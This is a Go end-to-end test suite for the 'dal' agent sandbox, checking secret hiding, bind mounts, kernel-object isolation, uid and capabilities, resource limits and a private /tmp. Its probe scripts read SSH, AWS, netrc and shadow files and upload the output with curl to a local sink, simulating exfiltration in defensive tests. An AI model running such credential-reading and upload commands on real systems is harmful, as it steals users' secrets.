package e2e

// Containment, round 2 (issue 38): what the agent may read of the user's
// machine, which kernel objects it may share with the host, and who it
// runs as, in every mode that uses the sandbox, as root and as an
// unprivileged user (nobody through setpriv when the suite is root).

import (
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"sync/atomic"
	"testing"
)

// secrets are the files an agent goes for, below the user's home, with
// the content the tests look for.
var secrets = map[string]string{
	".ssh/id_ed25519":         "SECRET-ssh-key",
	".aws/credentials":        "SECRET-aws",
	".netrc":                  "SECRET-netrc",
	".config/dal/signing.key": "SECRET-dal-default-key",
}

// hostileHome makes a home for the user dal runs as (root's or nobody's)
// with the secrets, git's configuration and a pyenv-like toolchain on
// PATH whose python3 is a bash script that forks, as pyenv's shim is; and
// a signing key for $DAL_KEY outside the home, on the host's tree the
// sandbox otherwise shows. It returns the home, the agent's PATH and the
// key's path.
func hostileHome(t *testing.T, unprivileged bool) (home, path, key string) {
	t.Helper()
	mk := func(dir, name string) string { return filepath.Join(dir, name) }
	write := func(p, body string, mode os.FileMode) {
		t.Helper()
		if err := os.MkdirAll(filepath.Dir(p), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(body), mode); err != nil {
			t.Fatal(err)
		}
	}
	// Outside /tmp, which record's sandbox replaces anyway: the home
	// must be hidden as a home.
	home, err := os.MkdirTemp("/var/cache", "dal-e2e-home-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(home) })
	os.Chmod(home, 0o755)
	for rel, body := range secrets {
		write(mk(home, rel), body, 0o600)
	}
	write(mk(home, ".gitconfig"), "[user]\n\tname = e2e-gitconfig\n", 0o644)
	write(mk(home, ".pyenv/version"), "3.99\n", 0o644)
	write(mk(home, ".pyenv/shims/python3"), "#!/bin/bash\nset -e\nroot=\"$(cd \"${0%/*}/..\" && pwd)\"\nv=\"$(cat \"$root/version\")\"\nexec \"$root/versions/$v/bin/python3\" \"$@\"\n", 0o755)
	write(mk(home, ".pyenv/versions/3.99/bin/python3"), "#!/bin/sh\necho \"toolchain-python $*\"\n", 0o755)
	// The key outside the home: under /var/cache, which record shows
	// read-only and run read-write.
	dir, err := os.MkdirTemp("/var/cache", "dal-e2e-key-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	key = mk(dir, "signing.key")
	write(key, "SECRET-dal-key-env", 0o600)
	if unprivileged && os.Geteuid() == 0 {
		for _, p := range []string{home, dir} {
			filepath.Walk(p, func(p string, _ os.FileInfo, err error) error {
				if err == nil {
					err = os.Lchown(p, rootlessUID, rootlessUID)
				}
				return err
			})
		}
	}
	return home, mk(home, ".pyenv/shims") + ":/usr/local/bin:/usr/bin:/bin", key
}

// dalAs runs dal-exec with args in dir, as root (the suite's user) or
// unprivileged, with HOME=home, PATH=path and env.
func dalAs(t *testing.T, unprivileged bool, home, path, dir string, env []string, args ...string) result {
	t.Helper()
	env = append([]string{"PATH=" + path}, env...)
	if unprivileged {
		dal := userCopy(t, bin.exec, userDir(t), 0o755)
		return asUser(t, home, dir, env, append([]string{dal}, args...)...)
	}
	return dalIn(t, dir, append([]string{"HOME=" + home, "TMPDIR=" + t.TempDir()}, env...), args...)
}

// modes are the sandboxed commands: a strict run (a direct sandbox on the
// host's files) and a record (an overlay over the workspace).
var modes = []string{"run", "record"}

// users are who dal runs as.
var users = []struct {
	name         string
	unprivileged bool
}{{"root", false}, {"unprivileged", true}}

func suiteIsRoot(t *testing.T) {
	t.Helper()
	if os.Geteuid() != 0 {
		// The unprivileged cases run as the suite's own user then, and
		// the root ones have no root to run as.
		t.Skip("needs root: the root cases run dal as root")
	}
}

// TestAgentSeesNoneOfTheUsersSecrets: an agent that reads ~/.ssh, ~/.aws,
// ~/.netrc, dal's signing key (its default place and $DAL_KEY's) and
// /etc/shadow gets nothing, in a run and a record, as root and
// unprivileged; nothing of them reaches the bundle, not even network.har
// when the record's agent uploads what it read; git's configuration
// shows, and a toolchain on PATH under the home (a forking bash shim, as
// pyenv's) still runs. As root with pyenv installed, pyenv's own python3
// runs too.
func TestAgentSeesNoneOfTheUsersSecrets(t *testing.T) {
	t.Parallel()
	suiteIsRoot(t)
	probe := `for f in .ssh/id_ed25519 .aws/credentials .netrc .config/dal/signing.key; do cat "$HOME/$f"; echo; done
cat "$DAL_KEY_PATH"; echo
cat /etc/shadow | head -c 100; echo
grep -h name "$HOME/.gitconfig"
python3 -c pass
ls -a "$HOME"
`
	for _, u := range users {
		for _, mode := range modes {
			t.Run(u.name+"/"+mode, func(t *testing.T) {
				t.Parallel()
				home, path, key := hostileHome(t, u.unprivileged)
				var ws string
				if u.unprivileged {
					ws = userMkdir(t, userDir(t), "ws")
				} else {
					ws = t.TempDir()
				}
				env := []string{"DAL_KEY=" + key, "DAL_KEY_PATH=" + key}
				args := []string{mode, "--keep-env", "DAL_KEY_PATH"}
				out := ""
				script := probe
				var sink *httptest.Server
				var sunk atomic.Value
				if mode == "record" {
					out = filepath.Join(userDir(t), "bundle")
					args = append(args, "--out", out)
					// Record signs with it: a real key, not the fake.
					os.Remove(key)
					// And the agent sends out whatever it read, through
					// the proxy, into the bundle's network.har.
					sink = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
						b, _ := io.ReadAll(r.Body)
						sunk.Store(string(b))
						io.WriteString(w, "got it\n")
					}))
					defer sink.Close()
					host := strings.TrimPrefix(sink.URL, "http://")
					env = append(env, "SINK="+sink.URL)
					args = append(args, "--allow-loopback", host, "--keep-env", "SINK")
					script = "{ " + probe + "} > read.txt 2>&1; cat read.txt; echo exfil-marker >> read.txt; /usr/bin/curl -s --max-time 20 --data-binary @read.txt \"$SINK/collect\""
				}
				r := dalAs(t, u.unprivileged, home, path, ws, env, append(args, "--", "sh", "-c", script)...)
				if r.code != 0 {
					t.Fatalf("%s: exit %d\n%s\n%s", mode, r.code, r.stdout, r.stderr)
				}
				all := r.stdout + r.stderr
				for _, leak := range []string{"SECRET", "root:", "PRIVATE KEY"} {
					if strings.Contains(all, leak) {
						t.Errorf("the agent read a secret (%q):\n%s", leak, all)
					}
				}
				if mode == "record" {
					kb, err := os.ReadFile(key)
					if err != nil || len(kb) == 0 {
						t.Fatalf("record's key: %v", err)
					}
					if strings.Contains(all, strings.TrimSpace(string(kb))) {
						t.Errorf("the agent read record's signing key:\n%s", all)
					}
					for _, f := range []string{"logs/stdout", "logs/stderr", "network.har"} {
						b, _ := os.ReadFile(filepath.Join(out, f))
						if strings.Contains(string(b), "SECRET") || strings.Contains(string(b), "root:") {
							t.Errorf("the bundle's %s holds a secret", f)
						}
						for _, line := range strings.Split(string(kb), "\n") {
							if len(line) > 20 && strings.Contains(string(b), line) {
								t.Errorf("the bundle's %s holds record's signing key", f)
							}
						}
					}
					har := string(mustRead(t, filepath.Join(out, "network.har")))
					got, _ := sunk.Load().(string)
					if !strings.Contains(har, "exfil-marker") || !strings.Contains(got, "exfil-marker") || !strings.Contains(r.stdout, "got it") {
						t.Errorf("the agent's upload did not go through the proxy into network.har (sink got %q):\n%s", got, r.stderr)
					}
					if strings.Contains(got, "SECRET") {
						t.Errorf("a secret left the machine: %q", got)
					}
				}
				for _, want := range []string{"e2e-gitconfig", "toolchain-python -c pass"} {
					if !strings.Contains(r.stdout, want) {
						t.Errorf("the agent's output lacks %q:\n%s\n%s", want, r.stdout, r.stderr)
					}
				}
				for _, gone := range []string{".ssh", ".aws", ".netrc"} {
					if strings.Contains(r.stdout, gone+"\n") {
						t.Errorf("the home lists %s:\n%s", gone, r.stdout)
					}
				}
			})
		}
	}
	if _, err := os.Stat("/root/.pyenv/shims/python3"); err != nil {
		t.Log("pyenv is not installed in /root: its own python3 is not tried")
		return
	}
	for _, mode := range modes {
		t.Run("root-pyenv/"+mode, func(t *testing.T) {
			t.Parallel()
			home, _, _ := hostileHome(t, false)
			args := []string{mode}
			if mode == "record" {
				args = append(args, "--out", filepath.Join(t.TempDir(), "bundle"))
			}
			r := dalAs(t, false, home, "/root/.pyenv/shims:/usr/bin:/bin", t.TempDir(), []string{"DAL_KEY=" + filepath.Join(t.TempDir(), "k")},
				append(args, "--", "python3", "-c", "import sys; print('prefix', sys.prefix)")...)
			if r.code != 0 || !strings.Contains(r.stdout, "prefix /root/.pyenv/versions/") {
				t.Fatalf("pyenv's python3 in a %s: exit %d\n%s\n%s", mode, r.code, r.stdout, r.stderr)
			}
		})
	}
}

// TestBindFlagsShowWhatTheUserNames: --ro-bind shows a path under the
// home read-only, --bind read-write (the write reaches the host); dal's
// key directory stays hidden under a --bind of its parent; a path that
// does not exist is refused in one sentence, exit 2; a working directory
// that holds the home is refused, naming --bind.
func TestBindFlagsShowWhatTheUserNames(t *testing.T) {
	t.Parallel()
	home := t.TempDir()
	for rel, body := range map[string]string{"data/input.txt": "shown-read-only", "scratch/.keep": "", ".config/dal/signing.key": "SECRET-key", ".config/tool/conf": "tool-conf"} {
		p := filepath.Join(home, rel)
		os.MkdirAll(filepath.Dir(p), 0o700)
		if err := os.WriteFile(p, []byte(body), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	env := []string{"HOME=" + home, "DAL_KEY=" + filepath.Join(t.TempDir(), "k")}
	for _, mode := range modes {
		t.Run(mode, func(t *testing.T) {
			t.Parallel()
			args := []string{mode, "--ro-bind", filepath.Join(home, "data"), "--bind", filepath.Join(home, "scratch"), "--bind", filepath.Join(home, ".config")}
			if mode == "record" {
				args = append(args, "--out", filepath.Join(t.TempDir(), "bundle"))
			}
			script := `cat ~/data/input.txt; echo; echo x > ~/data/input.txt || echo ro-refused
echo ` + mode + ` > ~/scratch/written && echo rw-written; cat ~/.config/tool/conf; echo; cat ~/.config/dal/signing.key; true`
			r := dalIn(t, t.TempDir(), env, append(args, "--", "sh", "-c", script)...)
			if r.code != 0 {
				t.Fatalf("exit %d\n%s\n%s", r.code, r.stdout, r.stderr)
			}
			for _, want := range []string{"shown-read-only", "ro-refused", "rw-written", "tool-conf"} {
				if !strings.Contains(r.stdout, want) {
					t.Errorf("lacks %q:\n%s\n%s", want, r.stdout, r.stderr)
				}
			}
			if strings.Contains(r.stdout, "SECRET") {
				t.Errorf("the key showed under --bind of its parent:\n%s", r.stdout)
			}
			if b, _ := os.ReadFile(filepath.Join(home, "scratch/written")); string(b) == "" {
				t.Errorf("the --bind write did not reach the host")
			}
		})
	}
	r := dalIn(t, t.TempDir(), env, "run", "--ro-bind", filepath.Join(home, "nonexistent"), "--", "true")
	if r.code != 2 || !strings.Contains(r.stderr, "--ro-bind") || strings.Count(strings.TrimSpace(r.stderr), "\n") > 0 {
		t.Errorf("a missing --ro-bind path: exit %d %q", r.code, r.stderr)
	}
	r = dalIn(t, home, env, "run", "--", "true")
	if r.code != 2 || !strings.Contains(r.stderr, "--bind "+home) {
		t.Errorf("a run in the home itself: exit %d %q", r.code, r.stderr)
	}
}

// TestAgentCannotShareKernelObjects: the kernel keyrings (keyctl, add_key,
// request_key) and AF_VSOCK sockets are refused with EPERM in a run and a
// record, as root and unprivileged, in the agent's children too; an
// ordinary socket still opens.
func TestAgentCannotShareKernelObjects(t *testing.T) {
	t.Parallel()
	suiteIsRoot(t)
	nr := map[string][3]int{"amd64": {248, 249, 250}, "arm64": {217, 218, 219}}[runtime.GOARCH]
	probe := `import ctypes, errno, socket
libc = ctypes.CDLL(None, use_errno=True)
def show(name, r):
    print(name, 0 if r >= 0 else errno.errorcode[ctypes.get_errno()])
show("add_key", libc.syscall(` + itoa(nr[0]) + `, b"user", b"dal-e2e", b"x", 1, -3))
show("request_key", libc.syscall(` + itoa(nr[1]) + `, b"user", b"dal-e2e", None, 0))
show("keyctl", libc.syscall(` + itoa(nr[2]) + `, 0, -3, 1))
for fam, name in ((socket.AF_VSOCK, "vsock"), (socket.AF_INET, "inet")):
    try:
        socket.socket(fam, socket.SOCK_STREAM).close(); print(name, 0)
    except OSError as e:
        print(name, errno.errorcode[e.errno])
`
	for _, u := range users {
		for _, mode := range modes {
			t.Run(u.name+"/"+mode, func(t *testing.T) {
				t.Parallel()
				home, _, _ := hostileHome(t, u.unprivileged)
				ws := t.TempDir()
				args := []string{mode}
				if u.unprivileged {
					ws = userMkdir(t, userDir(t), "ws")
				}
				if mode == "record" {
					args = append(args, "--out", filepath.Join(userDir(t), "bundle"))
				}
				r := dalAs(t, u.unprivileged, home, "/usr/bin:/bin", ws, []string{"DAL_KEY=" + filepath.Join(userDir(t), "k")},
					append(args, "--", "sh", "-c", "/usr/bin/python3 -c '"+probe+"'")...)
				if r.code != 0 {
					t.Fatalf("exit %d\n%s\n%s", r.code, r.stdout, r.stderr)
				}
				for _, want := range []string{"add_key EPERM", "request_key EPERM", "keyctl EPERM", "vsock EPERM", "inet 0"} {
					if !strings.Contains(r.stdout, want+"\n") {
						t.Errorf("want %q:\n%s\n%s", want, r.stdout, r.stderr)
					}
				}
			})
		}
	}
}

// TestAgentRunsAsTheCaller: the agent runs as the caller's uid and gid in
// a run and a record alike, so a write the caller could not make (a
// directory of root's in the workspace) fails in the sandbox, and the
// record captures nothing of it; as root, the agent holds no capability.
func TestAgentRunsAsTheCaller(t *testing.T) {
	t.Parallel()
	suiteIsRoot(t)
	for _, u := range users {
		for _, mode := range modes {
			t.Run(u.name+"/"+mode, func(t *testing.T) {
				t.Parallel()
				home, _, _ := hostileHome(t, u.unprivileged)
				ws := t.TempDir()
				uid := "0"
				if u.unprivileged {
					ws = userMkdir(t, userDir(t), "ws")
					uid = itoa(rootlessUID)
				}
				// root's directory, which nobody cannot write.
				if err := os.Mkdir(filepath.Join(ws, "roots"), 0o755); err != nil {
					t.Fatal(err)
				}
				args := []string{mode}
				out := filepath.Join(userDir(t), "bundle")
				if mode == "record" {
					args = append(args, "--out", out)
				}
				script := `echo "uid $(id -u) gid $(id -g)"; grep CapEff /proc/self/status; echo x > roots/new && echo wrote-roots; echo ok > mine && echo wrote-mine`
				r := dalAs(t, u.unprivileged, home, "/usr/bin:/bin", ws, []string{"DAL_KEY=" + filepath.Join(userDir(t), "k")},
					append(args, "--", "sh", "-c", script)...)
				if r.code != 0 {
					t.Fatalf("exit %d\n%s\n%s", r.code, r.stdout, r.stderr)
				}
				for _, want := range []string{"uid " + uid + " gid " + uid + "\n", "CapEff:\t0000000000000000\n", "wrote-mine"} {
					if !strings.Contains(r.stdout, want) {
						t.Errorf("want %q:\n%s\n%s", want, r.stdout, r.stderr)
					}
				}
				wrote := strings.Contains(r.stdout, "wrote-roots")
				if wrote == u.unprivileged {
					t.Errorf("the write into root's directory: wrote %v as %s\n%s\n%s", wrote, u.name, r.stdout, r.stderr)
				}
				if _, err := os.Stat(filepath.Join(ws, "roots/new")); (err == nil) == u.unprivileged {
					t.Errorf("roots/new on the host: %v", err)
				}
			})
		}
	}
}

// TestResourceLimits: in a run and a record, as root and unprivileged,
// --memory caps each process's allocations (Python's MemoryError) and
// sizes the record's private tmpfs mounts at a quarter of it; --file-size
// stops a write past it, and an agent killed by SIGXFSZ is said to have
// reached --file-size, the record keeping its bundle; rootless, --pids
// caps the tree's forks, and as root dal says it does not. A limit that
// is not a size is refused, exit 2.
func TestResourceLimits(t *testing.T) {
	t.Parallel()
	suiteIsRoot(t)
	script := `/usr/bin/python3 -c "bytearray(100 << 20); print('100M ok')"
/usr/bin/python3 -c "bytearray(400 << 20)" 2>&1 | tail -1
df -k /tmp /dev/shm | tail -n +2 | awk '{print $6, $2}'
(head -c 2000000 /dev/zero > big) 2>/dev/null; echo "big $(wc -c < big)"
if (for i in $(seq 100); do sleep 3 & done) 2>&1 | grep -q fork; then echo fork-refused; fi
exec head -c 2000000 /dev/zero > big2`
	for _, u := range users {
		for _, mode := range modes {
			t.Run(u.name+"/"+mode, func(t *testing.T) {
				t.Parallel()
				home, _, _ := hostileHome(t, u.unprivileged)
				ws := t.TempDir()
				if u.unprivileged {
					ws = userMkdir(t, userDir(t), "ws")
				}
				args := []string{mode, "--memory", "256M", "--file-size", "1M", "--pids", "64"}
				out := filepath.Join(userDir(t), "bundle")
				if mode == "record" {
					args = append(args, "--out", out)
				}
				r := dalAs(t, u.unprivileged, home, "/usr/bin:/bin", ws, []string{"DAL_KEY=" + filepath.Join(userDir(t), "k")},
					append(args, "--", "sh", "-c", script)...)
				if r.code != 128+25 {
					t.Fatalf("exit %d, want 153 (SIGXFSZ)\n%s\n%s", r.code, r.stdout, r.stderr)
				}
				wants := []string{"100M ok\n", "MemoryError\n", "big 1048576\n"}
				if mode == "record" {
					wants = append(wants, "/tmp 65536\n", "/dev/shm 65536\n")
				}
				for _, want := range wants {
					if !strings.Contains(r.stdout, want) {
						t.Errorf("want %q:\n%s\n%s", want, r.stdout, r.stderr)
					}
				}
				if u.unprivileged && !strings.Contains(r.stdout, "fork-refused\n") {
					t.Errorf("--pids 64 let the agent fork 100 times:\n%s", r.stdout)
				}
				if said := strings.Contains(r.stderr, "--pids is not enforced when dal-exec runs as root"); said == u.unprivileged {
					t.Errorf("as %s, dal said --pids is not enforced: %v\n%s", u.name, said, r.stderr)
				}
				if !strings.Contains(r.stderr, "a file it wrote reached the file-size limit of 1048576 bytes (--file-size)") {
					t.Errorf("dal does not say which limit stopped the agent:\n%s", r.stderr)
				}
				if mode == "record" {
					if _, err := os.Stat(filepath.Join(out, "manifest.json")); err != nil {
						t.Errorf("the record stopped by a limit kept no bundle: %v\n%s", err, r.stderr)
					}
				}
			})
		}
	}
	for _, bad := range [][]string{{"--memory", "12Q"}, {"--file-size", "-1"}, {"--pids", "3"}, {"--memory", "150%"}} {
		r := dalIn(t, t.TempDir(), nil, append([]string{"run"}, append(bad, "--", "true")...)...)
		if r.code != 2 || !strings.Contains(r.stderr, bad[0]) || strings.Count(strings.TrimSpace(r.stderr), "\n") > 0 {
			t.Errorf("%v: exit %d %q, want one sentence naming the flag, exit 2", bad, r.code, r.stderr)
		}
	}
}

// TestRunHasItsOwnTmp: a run's agent, pid 100 in every run, has a /tmp of
// its own over the host's: it reads what the host keeps there, but a file
// it makes there by its pid (as a JVM's /tmp/hsperfdata_USER/100) neither
// reaches the host's /tmp nor meets the next run's; what it writes in its
// working directory under /tmp reaches the host, and a service of the
// host's listening on a socket in /tmp still answers. As root and
// unprivileged.
func TestRunHasItsOwnTmp(t *testing.T) {
	t.Parallel()
	suiteIsRoot(t)
	for _, u := range users {
		t.Run(u.name, func(t *testing.T) {
			t.Parallel()
			home, _, _ := hostileHome(t, u.unprivileged)
			ws := t.TempDir()
			if u.unprivileged {
				ws = userMkdir(t, userDir(t), "ws")
			}
			shared := t.TempDir()
			if u.unprivileged {
				shared = userMkdir(t, userDir(t), "shared")
			}
			if err := os.WriteFile(filepath.Join(shared, "input"), []byte("named\n"), 0o644); err != nil {
				t.Fatal(err)
			}
			// A service of the host's listening in /tmp, as an ssh agent.
			sock := filepath.Join(shared, "agent.sock")
			ln, err := net.Listen("unix", sock)
			if err != nil {
				t.Fatal(err)
			}
			defer ln.Close()
			os.Chmod(sock, 0o777)
			go func() {
				for {
					c, err := ln.Accept()
					if err != nil {
						return
					}
					io.WriteString(c, "service\n")
					c.Close()
				}
			}()
			probe := filepath.Join("/tmp", "dal-e2e-pid-"+filepath.Base(ws)+"-"+u.name)
			script := `set -C; echo "$$" > ` + probe + `-$$ && echo made; cat ` + shared + `/input; echo ws > in-ws
/usr/bin/python3 -c 'import socket, sys; s = socket.socket(socket.AF_UNIX); s.connect(sys.argv[1]); print(s.recv(64).decode(), end="")' ` + sock
			for i := range 2 {
				r := dalAs(t, u.unprivileged, home, "/usr/bin:/bin", ws, []string{"DAL_KEY=" + filepath.Join(userDir(t), "k")},
					"run", "--", "sh", "-c", script)
				if r.code != 0 || r.stdout != "made\nnamed\nservice\n" {
					t.Fatalf("run %d: exit %d\n%s\n%s", i, r.code, r.stdout, r.stderr)
				}
				if _, err := os.Stat(probe + "-100"); err == nil {
					os.Remove(probe + "-100")
					t.Fatalf("run %d: the agent's /tmp file reached the host's /tmp", i)
				}
				if b, _ := os.ReadFile(filepath.Join(ws, "in-ws")); string(b) != "ws\n" {
					t.Errorf("run %d: the working directory under /tmp: %q", i, b)
				}
				os.Remove(filepath.Join(ws, "in-ws"))
			}
		})
	}
}

// TestCaptureFailureKeepsTheRecordUnprivileged: as an unprivileged user
// (whose overlay keeps its marks in user.* xattrs), an agent that uploads
// something through the proxy and then nests directories past PATH_MAX
// still leaves a signed, incomplete bundle with network.har, policy.json
// and its logs, and the workspace untouched. TestCaptureFailureKeepsTheAuditRecord
// is the root case.
func TestCaptureFailureKeepsTheRecordUnprivileged(t *testing.T) {
	t.Parallel()
	suiteIsRoot(t)
	var got atomic.Value
	sink := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		got.Store(string(b))
		io.WriteString(w, "stored\n")
	}))
	defer sink.Close()
	host := strings.TrimPrefix(sink.URL, "http://")
	home, _, _ := hostileHome(t, true)
	ws := userMkdir(t, userDir(t), "ws")
	userWrite(t, filepath.Join(ws, "kept.txt"), []byte("before\n"), 0o644)
	before := treeHash(t, ws)
	pol := userWrite(t, filepath.Join(userDir(t), "allow.rego"), []byte("package dal\n\nimport rego.v1\n\ndecision := {\"action\": \"allow\", \"reason\": \"audited\"} if input.kind == \"http\"\n"), 0o644)
	out := filepath.Join(userDir(t), "bundle")
	script := `/usr/bin/curl -s --max-time 20 --data-binary "the exfiltrated plans" "$SINK/up"
echo changed > kept.txt
/usr/bin/python3 -c '
import os
for i in range(30):
    os.mkdir("d" * 200)
    os.chdir("d" * 200)
print("nested past PATH_MAX")'`
	// --policy runs dal-exec-full, beside dal-exec.
	bins := userDir(t)
	dal := userCopy(t, bin.exec, bins, 0o755)
	userCopy(t, bin.full, bins, 0o755)
	key := filepath.Join(userDir(t), "k")
	r := asUser(t, home, ws, []string{"DAL_KEY=" + key, "SINK=" + sink.URL},
		dal, "record", "--policy", pol, "--allow-loopback", host, "--keep-env", "SINK", "--out", out, "--", "sh", "-c", script)
	if r.code != 2 || !strings.Contains(r.stderr, "written and signed as incomplete") || !strings.Contains(r.stdout, "stored\n") ||
		!strings.Contains(r.stdout, "nested past PATH_MAX") {
		t.Fatalf("record: exit %d\nstdout %s\nstderr %s", r.code, r.stdout, r.stderr)
	}
	if s, _ := got.Load().(string); s != "the exfiltrated plans" {
		t.Errorf("the server got %q", s)
	}
	if treeHash(t, ws) != before {
		t.Error("the workspace changed")
	}
	for rel, want := range map[string]string{"network.har": "the exfiltrated plans", "policy.json": "audited", "logs/stdout": "nested past PATH_MAX"} {
		if b, err := os.ReadFile(filepath.Join(out, rel)); err != nil || !strings.Contains(string(b), want) {
			t.Errorf("the incomplete bundle's %s lacks %q: %v", rel, want, err)
		}
	}
	v := asUser(t, home, bins, []string{"DAL_KEY=" + key}, dal, "verify", out)
	if !strings.Contains(v.stdout, "incomplete") {
		t.Errorf("verify: exit %d\n%s%s", v.code, v.stdout, v.stderr)
	}
}
